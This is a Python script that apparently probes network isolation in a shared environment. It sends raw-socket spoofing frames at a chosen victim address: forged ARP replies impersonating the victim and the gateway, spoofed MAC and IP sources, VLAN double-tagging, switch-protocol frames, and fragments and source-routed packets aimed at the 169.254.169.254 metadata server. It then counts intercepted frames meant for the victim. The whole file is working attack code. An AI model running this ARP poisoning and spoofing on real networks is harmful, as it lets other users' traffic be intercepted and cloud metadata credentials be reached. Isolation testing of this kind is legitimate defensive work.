"""A learner with all rights over their own interface who claims to be somebody
else, in every way there is, TRIES times each, and listens for what that brings.

Usage: forge.py TRIES ADDRESS MAC   (whom to claim to be)
Prints `sent N, heard M` where M counts frames that were meant for the other one."""

import socket
import struct
import sys
import threading
import time

TRIES, VICTIM, VICTIM_MAC = int(sys.argv[1]), sys.argv[2], bytes.fromhex(sys.argv[3].replace(":", ""))
GATEWAY = "192.168.100.1"
BROADCAST = b"\xff" * 6
inet = socket.inet_aton

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("eth0", 0))
wire.settimeout(0.2)
OWN = wire.getsockname()[4]
BRIDGE_MAC = bytes.fromhex("02c1a2000100")
heard, sent, refused = 0, 0, 0


def listen():
    global heard
    while not over.is_set():
        try:
            frame, where = wire.recvfrom(65535)
        except TimeoutError:
            continue
        if where[2] == socket.PACKET_OUTGOING:
            continue
        meant = frame[:6] == VICTIM_MAC or frame[12:14] == b"\x08\x00" and frame[30:34] == inet(VICTIM)
        heard += meant


def frame(to, of, kind, payload):
    return to + of + struct.pack(">H", kind) + payload


def arp(op, of_mac, of, to_mac, to):
    return struct.pack(">HHBBH", 1, 0x800, 6, 4, op) + of_mac + inet(of) + to_mac + inet(to)


def total(data):
    words = sum(struct.unpack(f">{len(data) // 2}H", data))
    words = (words >> 16) + (words & 0xFFFF)
    return ~(words + (words >> 16)) & 0xFFFF


def ip(of, to, payload=b"claimed!", protocol=17, options=b"", offset=0):
    head = struct.pack(
        ">BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), 7, offset, 64, protocol, 0, inet(of), inet(to)
    )
    head += options
    return head[:10] + struct.pack(">H", total(head)) + head[12:] + payload


def udp(port):
    return struct.pack(">HHHH", 9, port, 16, 0) + b"claimed!"


def own_address():
    for line in open("/proc/net/fib_trie"):
        found = line.strip().removeprefix("|-- ")
        if found.startswith("192.168.100.") and found not in ("192.168.100.0", "192.168.100.255"):
            return found
    return "192.168.100.11"


MINE = own_address()
ROUTE = b"\x83\x07\x04" + inet("169.254.169.254") + b"\x01"  # loose source route
CLAIMS = [
    # Another's address, by every kind of ARP, to the bridge and to everybody.
    frame(BROADCAST, OWN, 0x806, arp(1, OWN, VICTIM, bytes(6), VICTIM)),
    frame(BROADCAST, OWN, 0x806, arp(2, OWN, VICTIM, BROADCAST, VICTIM)),
    frame(BRIDGE_MAC, OWN, 0x806, arp(2, OWN, VICTIM, BRIDGE_MAC, GATEWAY)),
    frame(BRIDGE_MAC, VICTIM_MAC, 0x806, arp(2, VICTIM_MAC, VICTIM, BRIDGE_MAC, GATEWAY)),
    frame(BRIDGE_MAC, OWN, 0x806, arp(2, VICTIM_MAC, MINE, BRIDGE_MAC, GATEWAY)),
    # The gateway's, towards the other seat.
    frame(VICTIM_MAC, OWN, 0x806, arp(2, OWN, GATEWAY, VICTIM_MAC, VICTIM)),
    frame(BROADCAST, BRIDGE_MAC, 0x806, arp(1, BRIDGE_MAC, GATEWAY, bytes(6), GATEWAY)),
    # Another's hardware address, to be learned at this port.
    frame(BRIDGE_MAC, VICTIM_MAC, 0x800, ip(VICTIM, GATEWAY, udp(53))),
    frame(BROADCAST, VICTIM_MAC, 0x800, ip(VICTIM, "192.168.100.255", udp(9))),
    frame(BRIDGE_MAC, BRIDGE_MAC, 0x800, ip(MINE, GATEWAY, udp(53))),
    # Another's address in the packet.
    frame(BRIDGE_MAC, OWN, 0x800, ip(VICTIM, "203.0.113.10", udp(9))),
    frame(BRIDGE_MAC, OWN, 0x800, ip("169.254.169.254", "203.0.113.10", udp(9))),
    frame(BRIDGE_MAC, OWN, 0x800, ip("0.0.0.0", "255.255.255.255", udp(67))),
    # Straight at the other seat, past the gateway, and by way of it.
    frame(VICTIM_MAC, OWN, 0x800, ip(MINE, VICTIM, udp(3001))),
    frame(BRIDGE_MAC, OWN, 0x800, ip(MINE, VICTIM, udp(3001))),
    # Tags, other protocols, what switches talk among themselves.
    frame(VICTIM_MAC, OWN, 0x8100, struct.pack(">HH", 1, 0x800) + ip(MINE, VICTIM, udp(3001))),
    frame(VICTIM_MAC, OWN, 0x88A8, struct.pack(">HHHH", 1, 0x8100, 1, 0x800) + ip(MINE, VICTIM, udp(3001))),
    frame(b"\x33\x33" + bytes(3) + b"\x01", OWN, 0x86DD, b"\x60" + bytes(3) + struct.pack(">HBB", 8, 58, 255) + bytes(40)),
    frame(bytes.fromhex("0180c2000000"), OWN, 39, bytes.fromhex("424203") + bytes(36)),
    frame(bytes.fromhex("0180c200000e"), OWN, 0x88CC, bytes(46)),
    frame(VICTIM_MAC, OWN, 0x1234, bytes(46)),
    # Fragments and options towards the metadata server.
    frame(BRIDGE_MAC, OWN, 0x800, ip(MINE, "169.254.169.254", udp(80), offset=0x2000)),
    frame(BRIDGE_MAC, OWN, 0x800, ip(MINE, "169.254.169.254", b"claimed!", offset=1)),
    frame(BRIDGE_MAC, OWN, 0x800, ip(MINE, "203.0.113.10", udp(9), options=ROUTE)),
    frame(BRIDGE_MAC, OWN, 0x800, ip(MINE, "169.254.169.254", udp(80), options=bytes([7, 7, 4]) + bytes(5))),
    # Too short, too long, cut off, lying about its length.
    frame(BRIDGE_MAC, OWN, 0x800, b""),
    frame(BRIDGE_MAC, OWN, 0x800, ip(MINE, "169.254.169.254", udp(80))[:15]),
    frame(BRIDGE_MAC, OWN, 0x800, ip(MINE, "169.254.169.254", bytes(1472))),
    frame(BRIDGE_MAC, OWN, 0x800, b"\x4f" + ip(MINE, "169.254.169.254", udp(80))[1:]),
    frame(BRIDGE_MAC, OWN, 0x806, arp(2, OWN, VICTIM, BRIDGE_MAC, GATEWAY)[:20]),
]

over = threading.Event()
listener = threading.Thread(target=listen)
listener.start()
print("forging", flush=True)
for _ in range(TRIES):
    for claim in CLAIMS:
        try:
            wire.send(claim)
            sent += 1
        except OSError:
            refused += 1
    time.sleep(0.01)
time.sleep(1)
over.set()
listener.join()
print(f"sent {sent}, heard {heard}")
